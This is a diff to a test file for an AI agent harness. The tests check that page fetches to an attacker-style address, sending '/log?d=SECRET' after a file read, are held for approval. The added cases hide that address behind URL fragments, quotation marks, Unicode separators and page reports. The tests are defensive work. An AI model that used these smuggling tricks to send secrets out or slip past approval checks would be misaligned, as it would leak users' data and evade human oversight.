@@ -161,6 +161,27 @@ describe('what the model wrote makes no address known', () => {
     s.answer('', [{ name: 'fetch_page', args: `{"url":"${evil}"}`, problem: `There is no field ${evil}.` }])
     expect((await prepared(s, 'fetch_page', { url: evil })).sends).toBe('/log?d=SECRET')
   })
+  it.each([
+    ['behind the fragment of a known one', `${page}# ${evil}`],
+    ['in what is no address', `see ${evil}`],
+    ['behind a quotation mark', `${page}#"${evil}`],
+  ])('in the address of a page that it opens, %s', async (_, url) => {
+    const s = await calls(await opened(), 'read_file', { path: 'a.txt' }, 'SECRET')
+    const asked = await prepared(s, 'fetch_page', { url })
+    s.answer('', [{ ...asked, name: 'fetch_page' }]).respond('Welcome')
+    expect(await status(s, evil)).toBe('pending')
+    expect(s.calls.at(-1)?.sends).toBe('/log?d=SECRET')
+  })
+  it.each([
+    ['behind a separator of Unicode in what the person quotes', `> see\u2028${evil}\n> and\u2029${evil}\n\nIs this right?`],
+    [
+      'in the report of a page that was put behind other words',
+      `Mend this.\n\n${reportOf('a.html', [{ level: 'log', text: evil }])}`,
+    ],
+  ])('%s', async (_, text) => {
+    const s = await calls(typed(session(), text), 'read_file', { path: 'a.txt' }, 'SECRET')
+    expect((await prepared(s, 'fetch_page', { url: evil })).sends).toBe('/log?d=SECRET')
+  })
   it('in a call that the person denied; one that was approved is not asked about again', async () => {
     const s = await calls(await opened(), 'read_file', { path: 'a.txt' }, 'SECRET')
     expect(await status(s, evil)).toBe('pending')
